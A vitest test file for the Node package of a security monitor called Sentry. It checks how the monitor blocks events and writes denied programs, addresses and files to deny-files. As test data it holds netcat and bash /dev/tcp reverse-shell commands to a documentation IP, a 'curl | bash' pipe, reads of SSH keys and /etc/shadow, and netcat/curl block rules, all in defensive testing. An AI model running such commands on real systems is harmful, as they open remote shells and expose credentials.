// `Sentry` of the Node package: policies from files, deny-files, and options for the core.
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Action, Sentry as CoreSentry, type JudgedEvent, type SentryOptions } from "@a3s-sentry/core";
import { naturalDeny } from "@a3s-sentry/core/host";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import {
  EnforceError,
  type EventJson,
  type EventKind,
  egress,
  fileAccess,
  PolicyError,
  type RuleInput,
  Sentry,
  toolExec,
} from "../src/index.js";
import { scratch } from "./support/scratch.js";

/** What the built-in rules block. The kernel runs `exe`. */
const attack = (exe: string): EventJson =>
  JSON.stringify({
    process: { exe },
    event: { ToolExec: { pid: 1, argv: ["/usr/bin/nc", "-e", "/bin/sh", "192.0.2.1"] } },
  }) as EventJson;
const BLOCK = { verdict: "block", severity: "high", reason: "mine" } as const;
const ATTACK = attack("/opt/bin/nc");

/** Makes a new folder the working directory until the test ends. */
function workIn(): string {
  const before = process.cwd();
  const folder = scratch();
  process.chdir(folder);
  onTestFinished(() => process.chdir(before));
  return folder;
}

describe("the quick start", () => {
  it("works as written", async () => {
    const folder = workIn();
    writeFileSync(
      "sentry.acl",
      `fail_closed = false

deny  { egress = "egress.txt" file = "file.txt" exec = "exec.txt" }

rules = [
  { name = "block-evil-dns", on = "Dns", match = "evil\\\\.test",
    verdict = "block", severity = "high", reason = "known-bad domain" },
]
`,
    );
    const sentry = await Sentry.create("sentry.acl");
    const d = await sentry.evaluate(egress(1234, "169.254.169.254", 80));
    expect([d.verdict, d.tier, d.severity]).toEqual(["block", "Rules", "high"]);
    expect(d.action).toEqual({ kind: "DenyEgress", target: "169.254.169.254" });
    expect((await sentry.evaluate(toolExec(1234, ["ls", "-la"]))).verdict).toBe("allow");
    expect(await sentry.evaluate("not json")).toBeNull();

    const guarded = await Sentry.create(`
deny  { exec = "exec.txt" }
rules = [
  { name = "no-netcat", on = "ToolExec", match = "nc",
    verdict = "block", severity = "high", reason = "netcat",
    action = "deny-exec" },
]`);
    const { decision, enforced } = await guarded.evaluateAndEnforce(toolExec(1, ["/usr/bin/nc", "x", "4444"]));
    expect([decision.verdict, enforced]).toEqual(["block", "exec.txt"]);
    expect(readFileSync(join(folder, "exec.txt"), "utf8")).toBe("/usr/bin/nc\n");
    sentry.close();
    guarded.close();
    expect(guarded.closed).toBe(true);
  });
});

it("is made by `create` alone, and is a core `Sentry`", async () => {
  const made: unknown = Reflect.construct.bind(undefined, Sentry, []);
  expect(made).toThrow(new TypeError("`new Sentry()` is not supported: use `await Sentry.create(policy)`"));
  using sentry = await Sentry.create("");
  expect(sentry).toBeInstanceOf(CoreSentry);
});

describe("relative deny-files", () => {
  it("of a file start at its folder, and are named as seen from the working directory", async () => {
    const folder = workIn();
    mkdirSync("etc");
    writeFileSync("etc/p.toml", `[deny]\nexec = "x.txt"\nfile = "${folder}/f.txt"\n`);
    using sentry = await Sentry.create("etc/p.toml", { failClosed: true });
    expect((await sentry.evaluateAndEnforce(ATTACK)).enforced).toBe("etc/x.txt");
    expect((await sentry.evaluateAndEnforce(fileAccess(1, "/root/.ssh/id_rsa"))).enforced).toBe(`${folder}/f.txt`);
    expect(readFileSync("etc/x.txt", "utf8")).toBe("/opt/bin/nc\n");
  });

  it("of options start at the working directory", async () => {
    workIn();
    mkdirSync("etc");
    writeFileSync("etc/p.acl", 'deny { exec = "x.txt" }');
    using sentry = await Sentry.create("etc/p.acl", { deny: { exec: "mine.txt" } });
    expect((await sentry.evaluateAndEnforce(ATTACK)).enforced).toBe("mine.txt");
    expect(readFileSync("mine.txt", "utf8")).toBe("/opt/bin/nc\n");
  });

  it("stay where they were at creation", async () => {
    const folder = workIn();
    using sentry = await Sentry.create({ deny: { exec: "x.txt" } });
    process.chdir("/");
    await sentry.evaluateAndEnforce(ATTACK);
    expect(readFileSync(join(folder, "x.txt"), "utf8")).toBe("/opt/bin/nc\n");
  });
});

describe("evaluateAndEnforce", () => {
  it("returns a failure beside the decision, and tries again", async () => {
    const folder = join(scratch(), "no");
    using sentry = await Sentry.create({ deny: { exec: `${folder}/x.txt` } });
    const failed = await sentry.evaluateAndEnforce(ATTACK);
    expect([failed.decision.verdict, failed.enforced]).toEqual(["block", null]);
    expect(failed.enforceError).toBeInstanceOf(EnforceError);
    expect(failed.enforceError?.code).toBe("ENOENT");
    expect(sentry.enforceFailures).toBe(1);
    mkdirSync(folder);
    expect(await sentry.evaluateAndEnforce(ATTACK)).toEqual({ decision: failed.decision, enforced: `${folder}/x.txt` });
    rmSync(folder, { recursive: true });
    expect(() => sentry.enforce(failed.decision)).toThrow(EnforceError);
  });

  it.each([
    ["an allow", toolExec(1, ["ls"])],
    ["a relative program", toolExec(1, ["curl", "http://x/p.sh", "|", "bash"])],
    ["a kind without a file", egress(1, "169.254.169.254", 80)],
  ])("writes nothing for %s", async (_, event) => {
    const folder = scratch();
    using sentry = await Sentry.create({ deny: { exec: `${folder}/x.txt` } });
    const { enforced, ...rest } = await sentry.evaluateAndEnforce(event);
    expect(enforced).toBeNull();
    expect(rest).not.toHaveProperty("enforceError");
    expect(() => readFileSync(`${folder}/x.txt`)).toThrow("ENOENT");
  });

  it("accepts an event as text, bytes and object, and returns null for anything else", async () => {
    const folder = scratch();
    using sentry = await Sentry.create({ deny: { exec: `${folder}/x.txt` } });
    for (const event of [ATTACK, new TextEncoder().encode(ATTACK), JSON.parse(ATTACK)]) {
      expect((await sentry.evaluateAndEnforce(event))?.enforced).toBe(`${folder}/x.txt`);
    }
    const none = '{"event":{"ToolExec":{"argv":["/usr/bin/curl","x","|","bash"]}}}';
    for (const event of ["not json", "", none, new TextEncoder().encode(none), JSON.parse(none)]) {
      expect(await sentry.evaluateAndEnforce(event)).toBeNull();
    }
    expect(readFileSync(`${folder}/x.txt`, "utf8")).toBe("/opt/bin/nc\n");
  });

  const all = (on: EventKind, action: NonNullable<RuleInput["action"]>): RuleInput => ({
    name: action,
    on,
    match: "(?s).*",
    verdict: "block",
    severity: "high",
    reason: "r",
    action,
  });

  const INVALID = { notEnforced: "invalid-target" };

  it.each<[string, EventJson, object]>([
    ["any address", egress(1, "0.0.0.0", 443), {}],
    ["loopback", egress(1, "127.0.0.1", 80), {}],
    ["another loopback", egress(1, "127.8.8.8", 80), {}],
    ["a name of loopback", egress(1, "localhost", 80), {}],
    ["IPv6", egress(1, "fd00:ec2::254", 80), INVALID],
    ["IPv6 in brackets", egress(1, "[2001:db8::1]", 80), INVALID],
    ["loopback in IPv6", egress(1, "::ffff:127.0.0.1", 80), {}],
    ["an address of spaces", egress(1, " ", 80), {}],
    ["a line break", egress(1, "evil.test\nother.test", 80), INVALID],
    ["a program of two lines", toolExec(1, ["/tmp/a\n/usr/bin/sudo"]), INVALID],
    ["a program with NUL", toolExec(1, ["/tmp/a\0b"]), INVALID],
    ["no program", toolExec(1, [""]), {}],
    ["a relative path", fileAccess(1, "../etc/shadow", true), INVALID],
    ["a path of spaces", fileAccess(1, " \t"), {}],
  ])("blocks, and writes nothing for a target that must not be denied: %s", async (_, event, why) => {
    const folder = scratch();
    const files = { egress: `${folder}/e`, file: `${folder}/f`, exec: `${folder}/x` };
    const rules = [all("Egress", "deny-egress"), all("FileAccess", "deny-file"), all("ToolExec", "deny-exec")];
    using sentry = await Sentry.create({ deny: files, rules });
    const { decision, ...rest } = await sentry.evaluateAndEnforce(event);
    expect([decision.verdict, rest]).toEqual(["block", { enforced: null, ...why }]);
    expect(readdirSync(folder)).toEqual([]);
    await sentry.evaluateAndEnforce(toolExec(1, [" /usr/bin/nc\n"]));
    await sentry.evaluateAndEnforce(egress(1, " 203.0.113.5 ", 80));
    expect(["x", "e"].map((name) => readFileSync(join(folder, name), "utf8"))).toEqual([
      "/usr/bin/nc\n",
      "203.0.113.5\n",
    ]);
  });

  it("writes IPv4 in IPv6 as IPv4", async () => {
    const folder = scratch();
    using sentry = await Sentry.create({ deny: { egress: `${folder}/e` }, rules: [all("Egress", "deny-egress")] });
    const { decision, enforced } = await sentry.evaluateAndEnforce(egress(1, "::ffff:203.0.113.5", 80));
    expect([decision.action?.target, enforced]).toEqual(["203.0.113.5", `${folder}/e`]);
    expect(readFileSync(`${folder}/e`, "utf8")).toBe("203.0.113.5\n");
  });

  it("writes and creates no file in a dry run", async () => {
    const folder = scratch();
    using sentry = await Sentry.create(`dry_run = true  deny { exec = "${folder}/x.txt" }`);
    const { decision, ...rest } = await sentry.evaluateAndEnforce(ATTACK);
    expect([decision.action, rest]).toEqual([{ kind: "DenyExec", target: "/opt/bin/nc" }, { enforced: null }]);
    expect(readdirSync(folder)).toEqual([]);
  });

  it("writes the targets of blocks by a tier and by the fail mode", async () => {
    const folder = scratch();
    const deny = { file: `${folder}/f` };
    const action = { kind: "DenyFile", target: "/root/.netrc" } as const;
    const l2 = {
      tier: "Llm",
      judge: async () => ({ verdict: "block", severity: "high", reason: "mine", action }) as const,
    } as const;
    using sentry = await Sentry.create({ deny }, { tiers: { l2 } });
    expect((await sentry.evaluateAndEnforce(fileAccess(1, "/root/.netrc"))).enforced).toBe(`${folder}/f`);
    using closed = await Sentry.create({ deny, fail_closed: true });
    expect((await closed.evaluateAndEnforce(fileAccess(1, "/root/.ssh/id_rsa"))).enforced).toBe(`${folder}/f`);
    using open = await Sentry.create({ deny });
    expect((await open.evaluateAndEnforce(fileAccess(1, "/home/u/.ssh/id_rsa"))).enforced).toBeNull();
    expect(readFileSync(`${folder}/f`, "utf8")).toBe("/root/.netrc\n/root/.ssh/id_rsa\n");
  });
});

describe("who chooses what is denied", () => {
  const exec = (argv: string[], exe?: string): EventJson =>
    JSON.stringify({ ...(exe && { process: { exe } }), event: { ToolExec: { pid: 1, argv } } }) as EventJson;

  async function enforced(event: EventJson, policy: object = {}) {
    const folder = scratch();
    const deny = { exec: `${folder}/x`, file: `${folder}/f`, egress: `${folder}/e` };
    using sentry = await Sentry.create({ deny, ...policy });
    const { decision, ...rest } = await sentry.evaluateAndEnforce(event);
    expect([decision.verdict, decision.action?.target]).toEqual(["block", expect.any(String)]);
    const denyFiles = readdirSync(folder).filter((name) => !name.endsWith(".ndjson"));
    const written = denyFiles.map((name) => readFileSync(join(folder, name), "utf8"));
    return { written, why: rest.notEnforced, target: decision.action?.target };
  }

  it.each(["/usr/bin/nc", "/bin/ncat", "/opt/nc"])(
    "an attacker who calls a reverse shell %s denies nothing",
    async (name) => {
      const argv = [name, "-e", "/bin/sh", "192.0.2.1"];
      expect(await enforced(exec(argv))).toEqual({ written: [], why: "program-from-argv", target: name });
      const observed = await enforced(exec(argv, "/usr/bin/bash"));
      expect(observed).toEqual({ written: [], why: "not-by-itself", target: "/usr/bin/bash" });
    },
  );

  it.each(["/usr/bin/sudo", "/", process.execPath, "/opt/x"])(
    "an attacker whose shell connects %s to another machine denies nothing",
    async (name) => {
      const argv = ["/tmp/.x/bash", "-c", `${name} > /dev/tcp/192.0.2.1/9 0>&1`];
      for (const exe of [undefined, "/usr/bin/bash", "/tmp/.x/sh"]) {
        expect(await enforced(exec(argv, exe))).toEqual({ written: [], why: "program-from-argv", target: name });
      }
    },
  );

  it.each(["/usr/bin/sudo", "/", process.execPath, "/opt/x", "git"])(
    "an attacker whose shell runs under the name %s is blocked, and denies nothing",
    async (name) => {
      const argv = [name, "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"];
      const { written, why } = await enforced(exec(argv, "/usr/bin/bash"));
      expect({ written, why }).toEqual({ written: [], why: "program-from-argv" });
    },
  );

  it("a block of the built-in rules denies the program that the kernel reported", async () => {
    const { written } = await enforced(exec(["/usr/bin/nc", "-e", "/bin/sh", "192.0.2.1"], "/tmp/.x/sh"));
    expect(written).toEqual(["/tmp/.x/sh\n"]);
  });

  it("a site rule with an action is obeyed, for everyday programs and files too", async () => {
    const rule = { verdict: "block", severity: "high", reason: "r" } as const;
    const rules = [
      { ...rule, name: "nc", on: "ToolExec", match: "(^|/)(nc|curl)( |$)", action: "deny-exec" },
      { ...rule, name: "shadow", on: "FileAccess", match: "^/etc/shadow$", action: "deny-file" },
    ];
    expect((await enforced(exec(["/usr/bin/nc", "-l"]), { rules })).written).toEqual(["/usr/bin/nc\n"]);
    expect((await enforced(exec(["curl", "x"], "/usr/bin/curl"), { rules })).written).toEqual(["/usr/bin/curl\n"]);
    expect((await enforced(fileAccess(1, "/etc/shadow"), { rules })).written).toEqual(["/etc/shadow\n"]);
    expect((await enforced(exec(["/opt/nc", "x"], "/usr/bin/sudo"), { rules })).written).toEqual(["/opt/nc\n"]);
    expect(await enforced(exec(["nc", "x"], "/usr/bin/sudo"), { rules })).toMatchObject({ why: "not-by-itself" });
    expect((await enforced(exec(["nc", "-l"]), { rules })).why).toBe("invalid-target");
    const wrapped = await enforced(exec(["/bin/bash", "-c", "echo; /opt/nc -l"]), { rules });
    expect(wrapped).toEqual({ written: [], why: "program-from-argv", target: "/bin/bash" });
  });

  it("a site rule denies neither sentry itself nor what the policy never denies", async () => {
    const rules = [
      { name: "all", on: "*", match: "", verdict: "block", severity: "high", reason: "r", action: "deny-exec" },
    ];
    const deny = { exec: join(scratch(), "x"), never: ["/srv/app/*"] };
    for (const path of [process.execPath, "/srv/app/server", "/sbin/init", deny.exec, "/"]) {
      expect(await enforced(exec([path]), { rules, deny })).toMatchObject({ why: "never-denied" });
    }
  });

  it.each([
    ["L2", "Llm", "l2"],
    ["L3", "Agent", "l3"],
  ] as const)("a block of %s denies by itself only what is observed and not everyday", async (_, tier, key) => {
    const folder = scratch();
    const judge = { tier, judge: async (event: JudgedEvent) => ({ ...BLOCK, action: own ?? naturalDeny(event) }) };
    let own: Action | undefined;
    const deny = { exec: `${folder}/x`, file: `${folder}/f` };
    const rules = [
      { name: "ask", on: "ToolExec", match: "miner", verdict: "escalate", severity: "low", reason: "r" },
    ] as const;
    using sentry = await Sentry.create({ deny, rules }, { tiers: { [key]: judge } });
    const result = async (event: EventJson) => {
      const { decision, enforced: file, notEnforced } = await sentry.evaluateAndEnforce(event);
      expect(decision).toMatchObject({ verdict: "block", tier });
      return file ?? notEnforced;
    };
    expect(await result(exec(["/usr/bin/sudo", "miner"]))).toBe("program-from-argv");
    expect(await result(exec(["/usr/bin/sudo", "miner"], "/opt/m"))).toBe(`${folder}/x`);
    expect(await result(fileAccess(1, "/etc/shadow"))).toBe("not-by-itself");
    expect(await result(fileAccess(1, "/root/.ssh/id_rsa"))).toBe(`${folder}/f`);
    own = { kind: "DenyExec", target: "/opt/another" };
    expect(await result(exec(["miner"], "/opt/m"))).toBe("program-from-argv");
  });

  it("a site rule that asked keeps its say if a tier or the fail mode blocks the same target", async () => {
    const folder = scratch();
    const rules = [
      {
        name: "shadow",
        on: "FileAccess",
        match: "^/etc/shadow$",
        verdict: "escalate",
        severity: "high",
        reason: "r",
        action: "deny-file",
      },
    ] as const;
    const l2 = {
      tier: "Llm",
      judge: async (event: JudgedEvent) => ({ ...BLOCK, action: naturalDeny(event) }),
    } as const;
    for (const options of [{ tiers: { l2 } }, { failClosed: true }]) {
      using sentry = await Sentry.create({ deny: { file: `${folder}/f` }, rules }, options as SentryOptions);
      expect((await sentry.evaluateAndEnforce(fileAccess(1, "/etc/shadow"))).enforced).toBe(`${folder}/f`);
    }
  });

  it("the fail mode's block of a built-in escalation obeys the lists", async () => {
    expect((await enforced(fileAccess(1, "/etc/shadow"), { fail_closed: true })).why).toBe("not-by-itself");
  });
});

describe("a tier from the caller", () => {
  it("replaces the policy's tier, and no other", async () => {
    const policy = 'llm { url = "http://127.0.0.1:1/v1" model = "m" }  agent { bin = "/bin/false" }';
    const verdict = { verdict: "escalate", severity: "low", reason: "mine" } as const;
    const l2 = { tier: "Llm", judge: async () => verdict } as const;
    using sentry = await Sentry.create(policy, { tiers: { l2 } });
    expect(sentry.tiers.l2).toBe(l2);
    const event = fileAccess(1, "/etc/shadow");
    expect((await sentry.evaluateThroughL2(event)).l2Decision?.reason).toBe("mine");
    expect(await sentry.evaluate(event)).toMatchObject({
      tier: "Agent",
      reason: expect.stringMatching(/^L3 unavailable \(.*\); fail-open$/),
    });
    const l3 = { tier: "Agent", judge: async () => ({ ...verdict, verdict: "block" }) as const } as const;
    using both = await Sentry.create(policy, { tiers: { l2, l3 } });
    expect(await both.evaluate(event)).toMatchObject({ verdict: "block", tier: "Agent", reason: "mine" });
  });
});

describe("create", () => {
  it("reads the environment of the process, unless it is given another", async () => {
    const source = 'deny { exec = env("A3S_TEST_SINK", "default") }';
    vi.stubEnv("A3S_TEST_SINK", "of the process");
    onTestFinished(() => void vi.unstubAllEnvs());
    using one = await Sentry.create(source);
    using other = await Sentry.create(source, { env: {} });
    expect([one.policy.deny.exec, other.policy.deny.exec]).toEqual(["of the process", "default"]);
  });

  it("takes TOML text by an option", async () => {
    using sentry = await Sentry.create("fail_closed = true", { format: "toml" });
    expect(sentry.policy.failClosed).toBe(true);
  });

  it("names the file in its diagnostics", async () => {
    const path = join(scratch(), "p.acl");
    writeFileSync(path, "\n  fail_closd = true\n");
    const error = await Sentry.create(path).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(PolicyError);
    expect(String(error)).toContain(` --> ${path}:2:3\n`);
  });

  it.each([["sentry.acl"], ["/no/such/folder/p.toml"], ["rules"]])("reports that %s is not a file", async (path) => {
    workIn();
    const error = await Sentry.create(path).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(PolicyError);
    expect(String(error)).toContain(`cannot read the policy file \`${path}\`: there is no such file`);
  });
});
